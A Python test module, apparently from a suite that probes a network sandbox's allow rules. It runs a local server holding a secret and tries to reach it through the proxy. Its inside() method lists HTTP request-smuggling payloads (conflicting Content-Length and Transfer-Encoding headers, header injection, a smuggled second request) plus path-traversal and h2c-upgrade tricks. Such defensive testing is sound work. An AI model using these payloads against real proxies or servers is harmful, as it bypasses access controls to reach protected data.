"""A second request within a first that a rule allows"""

import os
import re
import socket
import threading

from attack import Host, Setup
from attack import Trick as Base


def serve(client: socket.socket, token: str) -> None:
    """A naive server: it believes whichever end of a body it reads first, and answers all that look like requests."""
    with client:
        seen = b""
        client.settimeout(1)
        try:
            while part := client.recv(65536):
                seen += part
                for path in re.findall(rb"(?:GET|POST) (/\S*) HTTP/1", seen):
                    body = token.encode() if path.startswith(b"/secret") else b"nothing"
                    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        except OSError:
            pass


class Trick(Base):
    area = "network"

    def prepare(self, host: Host) -> Setup:
        listener = socket.create_server(("127.0.0.2", 0))
        host.finally_(listener.close)

        def accept() -> None:
            while True:
                try:
                    client, _ = listener.accept()
                except OSError:
                    return
                threading.Thread(target=serve, args=(client, host.token), daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
        at = f"127.0.0.2:{listener.getsockname()[1]}"
        setup = Setup(at)
        setup.hosts = [f"GET,POST http://{at}/public/**"]
        return setup

    def inside(self, at: str) -> None:
        hidden = f"GET /secret HTTP/1.1\r\nHost: {at}\r\n\r\n"
        size = len(hidden)
        heads = [
            f"Content-Length: 0\r\n\r\n{hidden}",
            f"Content-Length: {size}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
            f"Transfer-Encoding: chunked\r\nContent-Length: {size}\r\n\r\n0\r\n\r\n{hidden}",
            f"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}",
            f"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n{hidden}",
            f"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{hidden}",
            f"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{hidden}",
            f"Content-Length: 0\r\nContent-Length: {size}\r\n\r\n{hidden}",
            f"Content-Length: +0\r\n\r\n{hidden}",
            f"X: a\r\n Content-Length: 0\r\n\r\n{hidden}",
            f"X: a\nTransfer-Encoding: chunked\n\r\n0\r\n\r\n{hidden}",
            f"X: a\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
            f"X: a\r\n\r\n{hidden}",
            f"Connection: Content-Length\r\nContent-Length: 0\r\n\r\n{hidden}",
            f"Connection: upgrade\r\nUpgrade: h2c\r\n\r\n{hidden}",
        ]
        proxy = os.environ.get("HTTP_PROXY")
        name, port = proxy.split("//")[1].split(":") if proxy else at.split(":")
        for path in (
            "/public/x",
            f"/public/x HTTP/1.1\r\nHost: {at}\r\n\r\nGET /secret",
            "/public/../secret",
            "/public/%2e%2e/secret",
        ):
            for head in heads:
                try:
                    with socket.create_connection((name, int(port)), timeout=3) as stream:
                        target = f"http://{at}{path}" if proxy else path
                        stream.sendall(f"POST {target} HTTP/1.1\r\nHost: {at}\r\n{head}".encode("latin-1"))
                        stream.settimeout(1.5 if proxy is None else 0.6)
                        while said := stream.recv(65536):
                            print(said.decode(errors="replace"))
                except OSError as error:
                    print(repr(head[:40]), error)
                if proxy is None and path == "/public/x":
                    break
